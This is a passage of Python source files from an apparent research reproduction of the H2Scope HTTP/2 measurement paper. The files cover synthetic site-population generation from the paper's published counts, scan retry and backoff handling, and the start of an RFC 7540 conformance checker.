        """Address mapping for :class:`SocketBackend`'s ``resolver=``."""
        return dict(self._addresses)

    def engine(self, domain: str):
        """The :class:`~repro.servers.engine.H2Server` behind ``domain``.

        The engine runs on the bridge's loop thread; callers on other
        threads must treat reads as best-effort samples (the attack
        battery's loopback metric sampling does exactly that).
        """
        return self._runtimes[domain].server

    # -- lifecycle --------------------------------------------------------

    def close(self) -> None:
        if self._closed:
            return
        self._closed = True
        future = asyncio.run_coroutine_threadsafe(self._shutdown(), self._loop)
        future.result(timeout=30)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(timeout=30)
        self._loop.close()

    async def _shutdown(self) -> None:
        for server in self._servers:
            server.close()
        for runtime in self._runtimes.values():
            runtime.close()
        for server in self._servers:
            await server.wait_closed()
        # One slice so transport.close() teardown callbacks run.
        await asyncio.sleep(0)

    def __enter__(self) -> "LoopbackBridge":
        return self

    def __exit__(self, *exc) -> None:
        self.close()
