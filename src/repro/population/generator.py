"""Build a synthetic site population from the paper's aggregates.

The generator samples one :class:`~repro.servers.site.Site` at a time:

* server family from Table IV (plus an "other" bucket sized to the
  remainder of the HEADERS-returning population, with synthetic server
  names approximating the paper's 223/345 distinct kinds);
* announced SETTINGS from the Table V/VI/VII marginals and the Fig. 2
  mixture (the ~1,000 NULL sites send no SETTINGS frame at all);
* behavioural quirks from the Section V-D/E/F counts (zero-window
  HEADERS handling, tiny-window behaviour, zero/large WINDOW_UPDATE
  reactions, scheduler flavour, self-dependency reaction, push);
* HPACK indexing policy per family, reproducing the Figs. 4-5 ratio
  populations (Nginx/Tengine/IdeaWebServer ratio ~1, GSE < 0.3,
  LiteSpeed 80/20 split).

Marginals are sampled independently unless the paper ties a behaviour
to a family (LiteSpeed's silent tiny-window mode, Apache's missing NPN,
family HPACK policies).  Every planted choice is recorded in
``site.truth`` so tests can assert H2Scope recovers it.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.h2.connection import Reaction
from repro.h2.constants import SettingCode
from repro.net.transport import LinkProfile
from repro.population.distributions import ExperimentData, experiment_data
from repro.servers.profiles import ServerProfile, TinyWindowBehavior
from repro.servers.site import Site
from repro.servers.vendors import POPULATION_FACTORIES
from repro.servers.website import Resource, Website, random_website

MCS = int(SettingCode.MAX_CONCURRENT_STREAMS)
IWS = int(SettingCode.INITIAL_WINDOW_SIZE)
MFS = int(SettingCode.MAX_FRAME_SIZE)
MHLS = int(SettingCode.MAX_HEADER_LIST_SIZE)

#: Paths the scanner's Algorithm 1 run expects on every generated site.
PRIORITY_TEST_PATHS = [f"/prio/{label}.bin" for label in "abcdef"]
PRIORITY_DEPLETION_PATHS = [f"/prio/deplete{i}.bin" for i in range(4)]

#: Families whose nginx lineage means responses are not HPACK-indexed.
NGINX_LINEAGE = {"nginx", "tengine", "tengine-aserver", "cloudflare-nginx"}


@dataclass
class PopulationConfig:
    """Scale and composition of one generated population."""

    experiment: int = 1
    #: Number of HEADERS-returning HTTP/2 sites to generate; the paper's
    #: population is 44,390 (exp 1) / 64,299 (exp 2).
    n_sites: int = 400
    seed: int = 7
    #: Also generate sites that negotiate h2 but never answer requests
    #: (the §V-B negotiation-vs-HEADERS gap), pro rata.
    include_unresponsive: bool = True

    @property
    def data(self) -> ExperimentData:
        return experiment_data(self.experiment)

    @property
    def scale(self) -> float:
        """Generated sites per paper site (for extrapolating counts)."""
        return self.n_sites / self.data.headers_sites


def make_population(config: PopulationConfig) -> list[Site]:
    """Generate the site list for one experiment at the given scale."""
    rng = random.Random(config.seed)
    data = config.data
    sites = [
        _make_site(rng, data, config, index)
        for index in range(config.n_sites)
    ]
    _apply_rare_quotas(rng, data, sites)
    if config.include_unresponsive:
        union = data.h2_site_estimate()
        extra = round(config.n_sites * (union - data.headers_sites) / data.headers_sites)
        for index in range(extra):
            sites.append(_make_unresponsive_site(rng, data, config, index))
    return sites


def _stochastic_round(rng: random.Random, value: float) -> int:
    """Round so the expectation equals ``value`` even below 1."""
    base = int(value)
    return base + (1 if rng.random() < value - base else 0)


def _apply_rare_quotas(
    rng: random.Random, data: ExperimentData, sites: list[Site]
) -> None:
    """Plant rare behaviours by quota instead of per-site coin flips.

    Traits rarer than ~1% of the population (priority-respecting
    schedulers, zero-WU GOAWAY responders, pushing sites) would be lost
    in Bernoulli noise at small scales; planting exact (stochastically
    rounded) quotas keeps the scaled counts close to the paper's.
    """
    n = len(sites)
    total = data.headers_sites
    order = list(range(n))
    rng.shuffle(order)
    cursor = 0

    def take(count: int) -> list[Site]:
        nonlocal cursor
        picked = [sites[i] for i in order[cursor : cursor + count]]
        cursor += count
        return picked

    # Scheduler flavours (§V-E1): both-rule passers are strict, last-
    # rule-only passers are soft WFQ, everyone else stays FCFS.
    for site in sites:
        site.profile.scheduler_mode = "fcfs"
        site.truth["scheduler_mode"] = "fcfs"
    n_strict = _stochastic_round(rng, n * data.priority_pass_both / total)
    n_wfq = _stochastic_round(
        rng, n * (data.priority_pass_last - data.priority_pass_both) / total
    )
    for site in take(n_strict):
        site.profile.scheduler_mode = "strict"
        site.truth["scheduler_mode"] = "strict"
    for site in take(n_wfq):
        site.profile.scheduler_mode = "wfq"
        site.truth["scheduler_mode"] = "wfq"

    # Zero-WU GOAWAY responders and their debug-data subset (§V-D3).
    n_goaway = _stochastic_round(rng, n * data.zero_wu_goaway / total)
    n_debug = _stochastic_round(rng, n * data.zero_wu_goaway_debug / total)
    goaway_sites = take(n_goaway)
    for index, site in enumerate(goaway_sites):
        site.profile.on_zero_window_update_stream = Reaction.GOAWAY
        site.truth["zero_wu_stream"] = Reaction.GOAWAY.value
        if index < n_debug:
            site.profile.zero_window_update_debug = (
                b"window update increment must not be zero"
            )

    # Pushing sites (§V-F).
    n_push = _stochastic_round(rng, n * data.push_sites / total)
    for site in sites:
        site.profile.supports_push = False
        site.truth["supports_push"] = False
    for site in take(n_push):
        site.profile.supports_push = True
        site.truth["supports_push"] = True
        _add_push_manifest(site)


def _add_push_manifest(site: Site) -> None:
    front = site.website.get("/")
    if front is not None and not front.push:
        front.push.extend(front.links[:3])


# ----------------------------------------------------------------------
# Site assembly
# ----------------------------------------------------------------------


def _make_site(
    rng: random.Random, data: ExperimentData, config: PopulationConfig, index: int
) -> Site:
    family = _draw_family(rng, data)
    profile = _base_profile(rng, family, data)
    truth: dict = {"family": family, "responsive": True}

    _sample_negotiation(rng, data, profile, family, truth)
    _sample_settings(rng, data, profile, truth)
    _sample_flow_control(rng, data, profile, family, truth)
    _sample_priority(rng, data, profile, truth)
    _sample_hpack(rng, data, profile, family, truth)

    cookie_prob = {"gse": 0.0, "litespeed": 0.05}.get(family, 0.25)
    website = _make_website(rng, cookie_prob=cookie_prob)
    return Site(
        domain=f"site{index:06d}.{data.label}.alexa",
        profile=profile,
        website=website,
        link=_sample_link(rng),
        truth=truth,
    )


def _make_unresponsive_site(
    rng: random.Random, data: ExperimentData, config: PopulationConfig, index: int
) -> Site:
    family = _draw_family(rng, data)
    profile = _base_profile(rng, family, data)
    profile = profile.clone(h2_unresponsive=True)
    truth = {"family": family, "responsive": False}
    _sample_negotiation(rng, data, profile, family, truth)
    return Site(
        domain=f"mute{index:06d}.{data.label}.alexa",
        profile=profile,
        website=Website([Resource("/", 1_000)]),
        link=_sample_link(rng),
        truth=truth,
    )


def _draw_family(rng: random.Random, data: ExperimentData) -> str:
    families = list(data.server_counts)
    weights = [data.server_counts[f] for f in families]
    other = data.headers_sites - sum(weights)
    families.append("other")
    weights.append(other)
    return rng.choices(families, weights=weights)[0]


def _base_profile(
    rng: random.Random, family: str, data: ExperimentData
) -> ServerProfile:
    if family in POPULATION_FACTORIES:
        return POPULATION_FACTORIES[family]()
    # "Other": a synthetic long-tail server; the kind index approximates
    # the paper's 223/345 distinct names with a Zipf-ish draw.
    kind = min(
        data.server_kinds - 8,
        int(rng.paretovariate(1.2)),
    )
    return ServerProfile(
        name="other",
        server_header=f"WebServer-{kind:03d}",
        scheduler_mode="fcfs",
    )


# ----------------------------------------------------------------------
# Attribute samplers (one per paper section)
# ----------------------------------------------------------------------


def _sample_negotiation(
    rng: random.Random,
    data: ExperimentData,
    profile: ServerProfile,
    family: str,
    truth: dict,
) -> None:
    union = data.h2_site_estimate()
    p_no_alpn = (union - data.alpn_sites) / union  # NPN-only sites
    p_no_npn = (union - data.npn_sites) / union  # ALPN-only sites
    if family == "apache":
        profile.supports_npn = False  # Table III: Apache has no NPN
    else:
        draw = rng.random()
        if draw < p_no_alpn:
            profile.supports_alpn = False
        elif draw < p_no_alpn + p_no_npn:
            profile.supports_npn = False
    truth["supports_alpn"] = profile.supports_alpn
    truth["supports_npn"] = profile.supports_npn


def _sample_settings(
    rng: random.Random, data: ExperimentData, profile: ServerProfile, truth: dict
) -> None:
    p_null = data.iws_counts[None] / data.headers_sites
    if rng.random() < p_null:
        profile.send_settings_frame = False
        profile.announce_zero_then_window_update = False
        truth["settings"] = None
        return

    settings: dict[int, int] = {}
    iws = _weighted(rng, {k: v for k, v in data.iws_counts.items() if k is not None})
    settings[IWS] = iws
    profile.announce_zero_then_window_update = iws == 0

    settings[MFS] = _weighted(
        rng, {k: v for k, v in data.mfs_counts.items() if k is not None}
    )
    mhls = _weighted(
        rng, {k: v for k, v in data.mhls_counts.items() if k is not None}
    )
    if mhls != "unlimited":
        settings[MHLS] = int(mhls)
    settings[MCS] = _weighted(rng, data.mcs_mixture)
    profile.settings = settings
    truth["settings"] = dict(settings)


def _sample_flow_control(
    rng: random.Random,
    data: ExperimentData,
    profile: ServerProfile,
    family: str,
    truth: dict,
) -> None:
    total = data.headers_sites

    # §V-D2: sites that (incorrectly) flow-control HEADERS.
    compliant = rng.random() < data.zero_window_headers_ok / total
    profile.flow_control_on_headers = not compliant
    profile.headers_hold_threshold = 1

    # §V-D1: tiny-window behaviour; LiteSpeed dominates the silent set.
    litespeed_count = data.server_counts.get("litespeed", 1)
    if family == "litespeed" and rng.random() < (
        data.tiny_no_response_litespeed / litespeed_count
    ):
        profile.tiny_window_behavior = TinyWindowBehavior.SILENT
        profile.flow_control_on_headers = True
        profile.headers_hold_threshold = 16
    else:
        other_silent = data.tiny_no_response - data.tiny_no_response_litespeed
        remaining = total - litespeed_count
        draw = rng.random()
        if draw < other_silent / remaining:
            profile.tiny_window_behavior = TinyWindowBehavior.SILENT
            profile.flow_control_on_headers = True
            profile.headers_hold_threshold = 16
        elif draw < (other_silent + data.tiny_zero_length) / remaining:
            profile.tiny_window_behavior = TinyWindowBehavior.SEND_EMPTY
        else:
            profile.tiny_window_behavior = TinyWindowBehavior.SEND_WINDOW_SIZED

    # §V-D3: zero WINDOW_UPDATE on a stream.  (The rare GOAWAY
    # responders are planted by quota in ``_apply_rare_quotas``.)
    if rng.random() < data.zero_wu_rst / total:
        profile.on_zero_window_update_stream = Reaction.RST_STREAM
    else:
        profile.on_zero_window_update_stream = Reaction.IGNORE
    # §V-D3: "nearly all the websites return connection error".
    profile.on_zero_window_update_connection = (
        Reaction.GOAWAY if rng.random() < 0.95 else Reaction.IGNORE
    )

    # §V-D4: overflowing WINDOW_UPDATE.
    profile.on_window_overflow_stream = (
        Reaction.RST_STREAM
        if rng.random() < data.large_wu_stream_rst / total
        else Reaction.IGNORE
    )
    profile.on_window_overflow_connection = (
        Reaction.GOAWAY
        if rng.random() < data.large_wu_conn_goaway / total
        else Reaction.IGNORE
    )

    truth["flow_control_on_headers"] = profile.flow_control_on_headers
    truth["tiny_window_behavior"] = profile.tiny_window_behavior.value
    truth["zero_wu_stream"] = profile.on_zero_window_update_stream.value
    truth["zero_wu_connection"] = profile.on_zero_window_update_connection.value
    truth["overflow_stream"] = profile.on_window_overflow_stream.value
    truth["overflow_connection"] = profile.on_window_overflow_connection.value


def _sample_priority(
    rng: random.Random, data: ExperimentData, profile: ServerProfile, truth: dict
) -> None:
    # Scheduler flavour is planted by quota in ``_apply_rare_quotas``;
    # only the self-dependency reaction is a per-site draw (§V-E2).
    total = data.headers_sites
    if rng.random() < data.selfdep_rst / total:
        profile.on_self_dependency = Reaction.RST_STREAM
    else:
        profile.on_self_dependency = (
            Reaction.GOAWAY if rng.random() < 0.5 else Reaction.IGNORE
        )
    truth["scheduler_mode"] = profile.scheduler_mode
    truth["self_dependency"] = profile.on_self_dependency.value


def _sample_hpack(
    rng: random.Random,
    data: ExperimentData,
    profile: ServerProfile,
    family: str,
    truth: dict,
) -> None:
    if family in NGINX_LINEAGE or family == "ideaweb":
        # §V-G: 93.5% of Nginx servers have ratio exactly 1.
        profile.hpack_index_responses = (
            rng.random() >= data.nginx_ratio_one_fraction
        )
        profile.response_header_noise = (
            rng.uniform(0.0, 0.4) if profile.hpack_index_responses else 0.0
        )
    elif family == "gse":
        profile.hpack_index_responses = True
        profile.response_header_noise = 0.0
    elif family == "litespeed":
        profile.hpack_index_responses = True
        if rng.random() < data.litespeed_good_fraction:
            profile.response_header_noise = rng.uniform(0.0, 0.1)
        else:
            profile.response_header_noise = rng.uniform(0.3, 1.0)
    else:
        profile.hpack_index_responses = rng.random() < 0.7
        # Noise only matters for indexing servers: a non-indexing
        # server's blocks are constant-size (ratio 1) regardless.
        profile.response_header_noise = (
            rng.uniform(0.0, 0.5) if profile.hpack_index_responses else 0.0
        )
    profile.new_cookie_each_response = rng.random() < 0.02
    truth["hpack_index_responses"] = profile.hpack_index_responses


def _make_website(rng: random.Random, cookie_prob: float = 0.25) -> Website:
    website = random_website(rng, cookie_prob=cookie_prob)
    # Objects Algorithm 1 needs: six labelled test objects plus window-
    # depletion objects (§III-C's testbed preparation, available on every
    # site here because we control the origin).
    for path in PRIORITY_TEST_PATHS:
        website.add(Resource(path, 40_000, "application/octet-stream"))
    for path in PRIORITY_DEPLETION_PATHS:
        website.add(Resource(path, 30_000, "application/octet-stream"))
    return website


def _sample_link(rng: random.Random) -> LinkProfile:
    rtt = min(0.4, max(0.005, rng.lognormvariate(-3.0, 0.6)))
    bandwidth = rng.choice([2e6, 5e6, 10e6, 20e6, 50e6])
    loss = rng.choice([0.0] * 8 + [0.005, 0.02])
    return LinkProfile(rtt=rtt, bandwidth=bandwidth, loss_rate=loss)


def _weighted(rng: random.Random, counts: dict) -> object:
    keys = list(counts)
    weights = [counts[k] for k in keys]
    return rng.choices(keys, weights=weights)[0]
