"""The paper's published population aggregates, transcribed as data.

Every number below is copied from the paper: Section V-B (adoption),
Table IV (server families), Tables V-VII (SETTINGS values), Fig. 2
(MAX_CONCURRENT_STREAMS, approximated as a discrete mixture consistent
with the described CDF), and Sections V-D/E/F/G (behaviour counts).

The generator samples sites from these marginals; the analysis layer
compares what H2Scope recovers against the same numbers.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class ExperimentData:
    """One measurement campaign's published aggregates."""

    label: str
    date: str

    # -- §V-B adoption ------------------------------------------------------
    total_scanned: int  # the Alexa top 1M
    npn_sites: int
    alpn_sites: int
    headers_sites: int  # sites that returned HEADERS frames

    # -- Table IV: server families with > 1,000 sites ------------------------
    server_counts: dict[str, int]
    #: Distinct server kinds observed (223 in exp 1, 345 in exp 2).
    server_kinds: int

    # -- Table V: SETTINGS_INITIAL_WINDOW_SIZE (None key == NULL) -----------
    iws_counts: dict[int | None, int]
    # -- Table VI: SETTINGS_MAX_FRAME_SIZE -----------------------------------
    mfs_counts: dict[int | None, int]
    # -- Table VII: SETTINGS_MAX_HEADER_LIST_SIZE ("unlimited" == absent) ----
    mhls_counts: dict[int | str | None, int]
    # -- Fig. 2: MAX_CONCURRENT_STREAMS mixture (value -> weight) ------------
    mcs_mixture: dict[int, float]

    # -- §V-D1: Sframe = 1 -----------------------------------------------------
    tiny_window_sized: int
    tiny_zero_length: int
    tiny_no_response: int
    tiny_no_response_litespeed: int

    # -- §V-D2: zero initial window, HEADERS-only compliant -------------------
    zero_window_headers_ok: int

    # -- §V-D3: zero WINDOW_UPDATE on a stream ---------------------------------
    zero_wu_rst: int
    zero_wu_not_error: int  # includes the GOAWAY sites below
    zero_wu_goaway: int
    zero_wu_goaway_debug: int

    # -- §V-D4: overflowing WINDOW_UPDATE ----------------------------------------
    large_wu_conn_goaway: int
    large_wu_stream_rst: int
    large_wu_stream_no_rst: int

    # -- §V-E1: Algorithm 1 ----------------------------------------------------
    priority_pass_last: int
    priority_pass_first: int
    priority_pass_both: int

    # -- §V-E2: self dependency ---------------------------------------------------
    selfdep_rst: int

    # -- §V-F: server push ----------------------------------------------------------
    push_sites: int

    # -- §V-G: HPACK-measurable sites per family (Figs. 4-5 populations) ----------
    hpack_sites: dict[str, int]
    #: Fraction of Nginx sites whose ratio is exactly 1 (93.5% in exp 1).
    nginx_ratio_one_fraction: float = 0.935
    #: Fraction of LiteSpeed sites with ratio < 0.3 (80%).
    litespeed_good_fraction: float = 0.80

    def h2_site_estimate(self) -> int:
        """Sites speaking HTTP/2 by either mechanism.

        The paper reports NPN and ALPN counts but not the union.  Apache
        (no NPN) implies some ALPN-only sites; the >100 NPN-only server
        kinds imply NPN-only sites.  We take union ≈ max + 60% of the
        smaller count's non-overlap, a round heuristic documented in
        DESIGN.md.
        """
        overlap_shortfall = min(self.npn_sites, self.alpn_sites) // 20
        return max(self.npn_sites, self.alpn_sites) + overlap_shortfall


EXPERIMENT_1 = ExperimentData(
    label="experiment-1",
    date="2016-07",
    total_scanned=1_000_000,
    npn_sites=49_334,
    alpn_sites=47_966,
    headers_sites=44_390,
    server_counts={
        "litespeed": 12_637,
        "nginx": 11_293,
        "gse": 9_928,
        "tengine": 2_535,
        "cloudflare-nginx": 1_197,
        "ideaweb": 1_128,
        "tengine-aserver": 0,
    },
    server_kinds=223,
    iws_counts={
        None: 1_050,
        0: 3_072,
        32_768: 3,
        65_535: 49,
        65_536: 20_477,
        131_072: 1,
        262_144: 1,
        1_048_576: 10_799,
        16_777_216: 11,
        20_000_000: 1,
        2_147_483_647: 8_926,
    },
    mfs_counts={
        None: 1_050,
        16_384: 24_781,
        1_048_576: 27,
        16_777_215: 18_532,
    },
    mhls_counts={
        None: 1_050,
        "unlimited": 32_568,
        16_384: 10_717,
        32_768: 3,
        81_920: 2,
        131_072: 24,
        1_048_896: 26,
    },
    mcs_mixture={
        100: 0.52,
        128: 0.33,
        256: 0.05,
        1_000: 0.03,
        32: 0.02,
        10: 0.01,
        1: 0.005,
        2_000: 0.015,
        10_000: 0.015,
        100_000: 0.005,
    },
    tiny_window_sized=37_525,
    tiny_zero_length=2_433,
    tiny_no_response=4_432,
    tiny_no_response_litespeed=3_900,  # not broken out in exp 1; scaled
    zero_window_headers_ok=17_191,
    zero_wu_rst=23_673,
    zero_wu_not_error=20_717,
    zero_wu_goaway=31,
    zero_wu_goaway_debug=26,
    large_wu_conn_goaway=40_567,
    large_wu_stream_rst=36_619,
    large_wu_stream_no_rst=7_771,
    priority_pass_last=1_147,
    priority_pass_first=46,
    priority_pass_both=38,
    selfdep_rst=18_237,
    push_sites=6,
    hpack_sites={
        "tengine": 2_449,
        "nginx": 12_764,
        "gse": 9_929,
        "ideaweb": 873,
        "litespeed": 11_834,
    },
)


EXPERIMENT_2 = ExperimentData(
    label="experiment-2",
    date="2017-01",
    total_scanned=1_000_000,
    npn_sites=78_714,
    alpn_sites=70_859,
    headers_sites=64_299,
    server_counts={
        "litespeed": 13_626,
        "nginx": 27_394,
        "gse": 9_929,
        "tengine": 674,
        "cloudflare-nginx": 1_766,
        "ideaweb": 1_261,
        "tengine-aserver": 2_620,
    },
    server_kinds=345,
    iws_counts={
        None: 1_015,
        0: 7_499,
        32_768: 59,
        65_535: 106,
        65_536: 40_612,
        131_072: 1,
        262_144: 1,
        1_048_576: 10_929,
        16_777_216: 15,
        2_147_483_647: 4_062,
    },
    mfs_counts={
        None: 1_015,
        16_384: 25_987,
        1_048_576: 81,
        16_777_215: 37_216,
    },
    mhls_counts={
        None: 1_015,
        "unlimited": 52_311,
        16_384: 10_806,
        32_768: 59,
        81_920: 3,
        131_072: 25,
        1_048_896: 80,
    },
    mcs_mixture={
        100: 0.55,
        128: 0.31,
        256: 0.04,
        1_000: 0.03,
        32: 0.02,
        10: 0.008,
        1: 0.002,
        2_000: 0.015,
        10_000: 0.015,
        100_000: 0.01,
    },
    tiny_window_sized=44_204,
    tiny_zero_length=8_056,
    tiny_no_response=12_039,
    tiny_no_response_litespeed=10_472,
    zero_window_headers_ok=23_834,
    zero_wu_rst=26_156,
    zero_wu_not_error=38_143,
    zero_wu_goaway=162,
    zero_wu_goaway_debug=42,
    large_wu_conn_goaway=62_668,
    large_wu_stream_rst=44_057,
    large_wu_stream_no_rst=20_242,
    priority_pass_last=2_187,
    priority_pass_first=117,
    priority_pass_both=111,
    selfdep_rst=53_379,
    push_sites=15,
    hpack_sites={
        "tengine": 619,
        "nginx": 22_548,
        "gse": 9_925,
        "ideaweb": 1_000,
        "litespeed": 12_856,
    },
)


def experiment_data(experiment: int) -> ExperimentData:
    """Lookup by the paper's experiment number (1 or 2)."""
    if experiment == 1:
        return EXPERIMENT_1
    if experiment == 2:
        return EXPERIMENT_2
    raise ValueError(f"experiment must be 1 or 2, got {experiment}")
