"""Synthetic Alexa-top-1M population.

The paper scanned the Alexa top 1 million twice (July 2016, January
2017).  We cannot reach the 2016 internet, so this package builds a
synthetic population whose *joint behaviour* is sampled from the
paper's published aggregates — Table IV's server families, Tables V-VII
and Fig. 2's SETTINGS marginals, and the Section V-D/E/F behavioural
counts — at a configurable scale.

Because the generator plants ground truth from the paper's numbers,
re-scanning the population with H2Scope is a closed-loop validation:
the scanner must recover the planted distributions, and every bench
that reproduces a table is simultaneously a correctness check of the
measurement methodology.
"""

from repro.population.distributions import (
    EXPERIMENT_1,
    EXPERIMENT_2,
    ExperimentData,
    experiment_data,
)
from repro.population.generator import PopulationConfig, make_population

__all__ = [
    "EXPERIMENT_1",
    "EXPERIMENT_2",
    "ExperimentData",
    "PopulationConfig",
    "experiment_data",
    "make_population",
]
