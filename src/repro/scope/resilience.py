"""Probe deadlines, failure classification and retry/backoff.

H2Scope's real scans had to survive the internet: unreachable hosts,
resets mid-handshake, servers that stall forever.  This module is the
scanner-side half of the fault story (the injection half lives in
:mod:`repro.net.faults`):

* a :class:`Deadline` watchdog anchored on whatever clock the active
  transport backend exposes — the virtual :class:`~repro.net.clock.
  Simulation` clock by default, a monotonic wall clock for the socket
  backend — which :class:`~repro.scope.client.ScopeClient` consults on
  every wait so a stalled peer cannot pin a probe past its budget;
* a typed failure taxonomy (:class:`ScanFault` and subclasses) mapping
  onto :class:`~repro.scope.report.ErrorClass` — transient failures are
  retried, timeouts and fatal failures are not;
* :class:`BackoffPolicy`, exponential backoff with deterministic
  seed-driven jitter (same seed → byte-identical delay schedule);
* :func:`run_resilient`, the per-probe execution harness used by
  :mod:`repro.scope.scanner`.
"""

from __future__ import annotations

import random
import socket
from collections.abc import Callable
from dataclasses import dataclass, field

from repro.net.backend import as_backend
from repro.net.faults import stable_seed
from repro.scope.report import ErrorClass, ScanError


class ScanFault(Exception):
    """Base class for classified probe failures."""

    error_class = ErrorClass.FATAL


class ConnectionRefusedFault(ScanFault):
    """TCP connect was refused (dead host or injected RST on SYN)."""

    error_class = ErrorClass.TRANSIENT


class ConnectionResetFault(ScanFault):
    """The peer tore the connection down mid-handshake."""

    error_class = ErrorClass.TRANSIENT


class DnsFault(ScanFault):
    """The target domain never resolved to an address.

    Carries its own :class:`ErrorClass` so campaigns can quarantine
    unresolvable sites up front (no connect attempts, no retry budget)
    and report them separately from dead-but-resolvable hosts.
    """

    error_class = ErrorClass.DNS


class ProbeTimeout(ScanFault):
    """The peer went silent past the probe's virtual-time budget."""

    error_class = ErrorClass.TIMEOUT


class DeadlineExceeded(ProbeTimeout):
    """The per-attempt deadline expired while waiting."""


class TlsFault(ScanFault):
    """The TLS hello exchange produced garbage (not retryable)."""

    error_class = ErrorClass.FATAL


def classify_exception(exc: BaseException) -> ErrorClass:
    """Map any exception onto the transient/timeout/fatal taxonomy."""
    if isinstance(exc, ScanFault):
        return exc.error_class
    if isinstance(exc, socket.gaierror):  # an OSError subclass: check first
        return ErrorClass.DNS
    if isinstance(exc, TimeoutError):  # an OSError subclass: check first
        return ErrorClass.TIMEOUT
    if isinstance(exc, (ConnectionError, OSError)):
        return ErrorClass.TRANSIENT
    return ErrorClass.FATAL


def make_scan_error(
    probe: str, exc: BaseException, attempts: int = 1
) -> ScanError:
    return ScanError(
        probe=probe,
        error_class=classify_exception(exc),
        exception=type(exc).__name__,
        message=str(exc),
        attempts=attempts,
    )


class Deadline:
    """A time budget anchored on a clock exposing ``.now`` in seconds.

    Works against the virtual :class:`~repro.net.clock.Simulation`
    clock and against a wall-clock transport backend alike — the only
    contract is a monotone ``now`` attribute or property.
    """

    def __init__(self, clock, seconds: float):
        self.clock = clock
        self.at = clock.now + seconds

    @property
    def remaining(self) -> float:
        return self.at - self.clock.now

    @property
    def expired(self) -> bool:
        return self.remaining <= 0

    def clamp(self, timeout: float, what: str = "wait") -> float:
        """Bound ``timeout`` by the budget; raise once it is spent."""
        remaining = self.remaining
        if remaining <= 0:
            raise DeadlineExceeded(f"{what}: deadline exceeded")
        return min(timeout, remaining)


@dataclass
class ProbePolicy:
    """Per-attempt policy the client reads off ``network.probe_policy``."""

    deadline: Deadline | None = None
    #: When set, connection-establishment failures raise classified
    #: :class:`ScanFault` exceptions instead of degrading silently.
    raise_faults: bool = True


@dataclass(frozen=True)
class BackoffPolicy:
    """Exponential backoff with deterministic jitter."""

    base: float = 0.5
    factor: float = 2.0
    max_delay: float = 8.0
    #: Additive jitter as a fraction of the raw delay, drawn uniformly
    #: from ``[0, jitter * delay)`` with a seeded RNG.
    jitter: float = 0.1

    def delay(self, attempt: int, rng: random.Random) -> float:
        raw = min(self.max_delay, self.base * self.factor**attempt)
        if self.jitter:
            raw += rng.random() * self.jitter * raw
        return raw

    def schedule(self, attempts: int, seed: int = 0) -> list[float]:
        """The full delay sequence for ``attempts`` retries of one seed."""
        rng = random.Random(seed)
        return [self.delay(index, rng) for index in range(attempts)]


@dataclass(frozen=True)
class ResilienceConfig:
    """Knobs for resilient probe execution."""

    #: Per-attempt time budget in backend clock-seconds (virtual by
    #: default; wall-clock backends apply their ``timeout_scale``).
    timeout: float = 20.0
    #: How many times a transient failure is retried.
    retries: int = 2
    backoff: BackoffPolicy = field(default_factory=BackoffPolicy)


def run_resilient(
    target,
    probe: str,
    fn: Callable[[], None],
    config: ResilienceConfig,
    seed: int = 0,
) -> tuple[int, ScanError | None]:
    """Run one probe under a deadline, retrying transient failures.

    ``target`` is a transport backend or a simulated ``Network``.
    Returns ``(attempts, error)`` where ``error`` is None on success.
    Backoff delays elapse on the backend's clock — on the simulated
    backend retries are free in wall time and fully deterministic.
    """
    backend = as_backend(target)
    rng = random.Random(stable_seed(seed, probe, "backoff"))
    attempts = 0
    try:
        while True:
            attempts += 1
            backend.probe_policy = ProbePolicy(
                deadline=Deadline(backend, backend.scale(config.timeout))
            )
            try:
                fn()
                return attempts, None
            except Exception as exc:  # noqa: BLE001 - scans survive anything
                error_class = classify_exception(exc)
                if error_class is not ErrorClass.TRANSIENT or attempts > config.retries:
                    return attempts, make_scan_error(probe, exc, attempts)
                delay = config.backoff.delay(attempts - 1, rng)
                backend.sleep(backend.scale(delay))
    finally:
        backend.probe_policy = None
