"""RFC 7540 conformance checking — H2Scope as an h2spec-style tester.

Table III is, at heart, a conformance report; this module formalizes
it: every check carries the RFC section it tests, a requirement level
(MUST / SHOULD / feature), runs one focused probe against a target, and
returns a typed verdict.  ``run_conformance`` executes the whole suite
against one site and produces a report with a compliance score, which
is how the paper's "not all implementations strictly follow RFC 7540"
becomes a per-server, per-requirement statement.

The checks deliberately reuse the Section III probes where one exists;
a few additional protocol details (PING payload echo, SETTINGS
acknowledgement, GOAWAY last-stream-id sanity) get their own minimal
probes here.
"""

from __future__ import annotations

import enum
from collections.abc import Callable
from dataclasses import dataclass, field

from repro.h2 import events as ev
from repro.scope.probes import (
    probe_large_window_update,
    probe_multiplexing,
    probe_negotiation,
    probe_self_dependency,
    probe_settings,
    probe_tiny_window,
    probe_zero_window_headers,
    probe_zero_window_update,
)
from repro.scope.report import ErrorReaction, TinyWindowResult
from repro.scope.session import ProbeSession, as_session


class Level(enum.Enum):
    """Requirement strength, RFC 2119 style."""

    MUST = "MUST"
    SHOULD = "SHOULD"
    FEATURE = "feature"  # optional capability (push, NPN, ...)


class Verdict(enum.Enum):
    PASS = "pass"
    FAIL = "fail"
    SKIP = "skip"  # prerequisite missing (e.g. no large objects)


@dataclass
class CheckResult:
    check_id: str
    section: str
    level: Level
    description: str
    verdict: Verdict
    detail: str = ""


@dataclass
class ConformanceReport:
    domain: str
    results: list[CheckResult] = field(default_factory=list)

    def _count(self, verdict: Verdict, level: Level | None = None) -> int:
        return sum(
            1
            for r in self.results
            if r.verdict is verdict and (level is None or r.level is level)
        )

    @property
    def musts_passed(self) -> int:
        return self._count(Verdict.PASS, Level.MUST)

    @property
    def musts_failed(self) -> int:
        return self._count(Verdict.FAIL, Level.MUST)

    @property
    def fully_conformant(self) -> bool:
        return self.musts_failed == 0 and self._count(Verdict.FAIL, Level.SHOULD) == 0

    def summary(self) -> str:
        lines = [f"RFC 7540 conformance report for {self.domain}"]
        for result in self.results:
            mark = {"pass": "PASS", "fail": "FAIL", "skip": "skip"}[
                result.verdict.value
            ]
            lines.append(
                f"  [{mark}] {result.check_id} ({result.section}, "
                f"{result.level.value}) {result.description}"
                + (f" — {result.detail}" if result.detail else "")
            )
        lines.append(
            f"  => MUST: {self.musts_passed} passed, {self.musts_failed} failed; "
            f"fully conformant: {self.fully_conformant}"
        )
        return "\n".join(lines) + "\n"


@dataclass
class _Check:
    check_id: str
    section: str
    level: Level
    description: str
